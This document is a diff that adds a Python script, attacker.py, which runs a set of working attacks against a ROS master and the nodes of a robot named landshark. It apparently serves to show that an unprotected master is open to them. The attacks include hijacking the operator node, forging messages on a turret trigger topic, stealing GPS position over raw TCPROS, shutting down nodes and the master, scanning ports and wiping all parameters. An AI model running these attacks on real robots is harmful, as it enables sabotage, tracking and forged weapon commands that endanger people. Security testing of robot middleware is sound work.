@@ -1,0 +1,202 @@
+"""What somebody on the robot's network can try with nothing but Python: attacker.py [ATTACK …]
+
+Knows the master's address (ROS_MASTER_URI) and the names of the robot's nodes and topics, as anybody can
+who has seen one such robot. Prints one JSON object per attack: `attack`, `succeeded`, `tried`, `answer`.
+Against a plain master each of them succeeds.
+"""
+
+import http.client
+import json
+import os
+import socket
+import struct
+import subprocess
+import sys
+import xmlrpc.client
+from pathlib import Path
+from urllib.parse import urlsplit
+
+MASTER = os.environ["ROS_MASTER_URI"]
+MY_ADDRESS = os.environ["ROS_IP"]
+MY_API = f"http://{MY_ADDRESS}:40404/"  # nobody listens there
+ME = "/attacker"
+VICTIM = "/landshark_battery"
+GPS = "/landshark/gps"
+LIMIT = 3.0
+RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
+FAILURES = (OSError, http.client.HTTPException, xmlrpc.client.Error)
+
+
+class _Transport(xmlrpc.client.Transport):
+    def make_connection(self, host):
+        """A connection with a time limit."""
+        connection = super().make_connection(host)
+        connection.timeout = LIMIT
+        return connection
+
+
+def call(uri, method, *parameters):
+    """One XML-RPC call: the answer, or the failure as an answer."""
+    try:
+        with xmlrpc.client.ServerProxy(uri, transport=_Transport(), allow_none=True) as server:
+            return list(getattr(server, method)(*parameters))
+    except FAILURES as error:
+        return [-1, f"{type(error).__name__}: {error}", 0]
+
+
+def granted(answer):
+    """Whether a ROS API said yes."""
+    return bool(answer) and answer[0] == 1
+
+
+def look_around():
+    """List every node, topic and service of the robot."""
+    answer = call(MASTER, "getSystemState", ME)
+    return granted(answer), "getSystemState()", answer
+
+
+def take_over_the_operator():
+    """Register a node under the operator's name: ROS shuts the real one down."""
+    return forge("ocu")
+
+
+def forge_the_trigger():
+    """Publish on the trigger topic under a name of one's own."""
+    return forge("stranger")
+
+
+def forge(name):
+    """Run a rospy node that fires."""
+    command = ["/usr/bin/python3", str(Path(__file__).with_name("forger.py")), name]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    said = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
+    drivers = said[-1]["drivers"] if said else 0
+    # rospy tells the master's reason in its log, by which a person would read it, too
+    reasons = [line for line in done.stderr.splitlines() if line.strip()]
+    answer = said or reasons[-1:] or [f"the node ended with {done.returncode}"]
+    return drivers > 0, f"registerPublisher(/{name}, /landshark_control/trigger)", answer
+
+
+def replace_a_driver():
+    """Register under the turret driver's name, to receive what the operator tells it."""
+    arguments = ("/landshark_turret", "/landshark_control/trigger", "*", MY_API)
+    answer = call(MASTER, "registerSubscriber", *arguments)
+    if granted(answer):  # leave the place as it was found
+        call(MASTER, "unregisterSubscriber", "/landshark_turret", "/landshark_control/trigger", MY_API)
+    return granted(answer), "registerSubscriber(/landshark_turret, /landshark_control/trigger)", answer
+
+
+def spy_on_gps():
+    """Subscribe to where the robot is."""
+    answer = call(MASTER, "registerSubscriber", ME, GPS, "*", MY_API)
+    if not granted(answer):
+        return False, f"registerSubscriber({ME}, {GPS})", answer
+    for publisher in answer[2]:
+        offered = call(publisher, "requestTopic", ME, GPS, [["TCPROS"]])
+        if granted(offered) and reads(offered[2][1], offered[2][2], GPS):
+            return True, f"registerSubscriber({ME}, {GPS})", ["read the position from", *offered[2]]
+    return False, f"registerSubscriber({ME}, {GPS})", answer
+
+
+def reads(host, port, topic):
+    """Whether a TCPROS port gives a message of the topic to a stranger."""
+    fields = {"callerid": ME, "topic": topic, "type": "*", "md5sum": "*", "tcp_nodelay": "0"}
+    body = b"".join(
+        struct.pack("<I", len(text)) + text for text in (f"{k}={v}".encode() for k, v in fields.items())
+    )
+    try:
+        with socket.create_connection((host, port), LIMIT) as peer:
+            peer.sendall(struct.pack("<I", len(body)) + body)
+            header = exactly(peer, struct.unpack("<I", exactly(peer, 4))[0])
+            return b"error=" not in header and len(exactly(peer, 4)) == 4
+    except OSError:
+        return False
+
+
+def exactly(peer, size):
+    """So many bytes."""
+    if size > 1 << 20:
+        raise OSError("no ROS header")
+    data = b""
+    while len(data) < size:
+        piece = peer.recv(size - len(data))
+        if not piece:
+            raise OSError("closed")
+        data += piece
+    return data
+
+
+def kill_a_node():
+    """Find a node's API and call its `shutdown`."""
+    found = call(MASTER, "lookupNode", ME, VICTIM)
+    if not granted(found):
+        return False, f"lookupNode({VICTIM})", found
+    answer = call(found[2], "shutdown", ME, "goodbye")
+    died_first = answer[0] == -1 and not granted(call(found[2], "getPid", ME))
+    return granted(answer) or died_first, f"shutdown() at {VICTIM}", answer
+
+
+def try_every_port():
+    """Go past the master: call `shutdown` on, and read the position from, whatever listens where it does."""
+    host = urlsplit(MASTER).hostname
+    said = []
+    for port in RELAY_PORTS:
+        with socket.socket() as probe:
+            probe.settimeout(0.3)
+            if probe.connect_ex((host, port)):
+                continue
+        answer = call(f"http://{host}:{port}/", "shutdown", ME, "goodbye")
+        if granted(answer) or reads(host, port, GPS):
+            return True, f"shutdown() and {GPS} at port {port}", answer
+        said.append([port, *answer])
+    told = [row for row in said if row[1] != -1] or said
+    return False, f"shutdown() and {GPS} at {len(said)} open ports", told[0] if told else ["no port is open"]
+
+
+def stop_the_clock():
+    """Set the parameter that makes every node started from now on wait for a clock that never ticks."""
+    answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
+    if granted(answer):
+        call(MASTER, "deleteParam", ME, "/use_sim_time")
+    return granted(answer), "setParam(/use_sim_time, true)", answer
+
+
+def wipe_the_parameters():
+    """Put an empty tree in the place of all parameters."""
+    answer = call(MASTER, "setParam", ME, "/", {})
+    return granted(answer), "setParam(/, {})", answer
+
+
+def stop_the_master():
+    """Shut the master itself down."""
+    answer = call(MASTER, "shutdown", ME, "goodbye")
+    return granted(answer), "shutdown() at the master", answer
+
+
+ATTACKS = {
+    "look around": look_around,
+    "take over the operator": take_over_the_operator,
+    "forge the trigger": forge_the_trigger,
+    "replace a driver": replace_a_driver,
+    "spy on the position": spy_on_gps,
+    "kill a node": kill_a_node,
+    "try every port": try_every_port,
+    "stop the clock": stop_the_clock,
+    "wipe the parameters": wipe_the_parameters,
+    "stop the master": stop_the_master,
+}
+
+
+def main():
+    """Try the attacks that are named, or all."""
+    unknown = [name for name in sys.argv[1:] if name not in ATTACKS]
+    if unknown:
+        sys.exit(f"attacker.py: no attack {unknown[0]!r}; there are: {', '.join(ATTACKS)}")
+    for name in sys.argv[1:] or ATTACKS:
+        succeeded, tried, answer = ATTACKS[name]()
+        line = {"event": "attacked", "attack": name, "succeeded": succeeded, "tried": tried, "answer": answer}
+        print(json.dumps(line, default=str), flush=True)
+
+
+if __name__ == "__main__":
+    main()
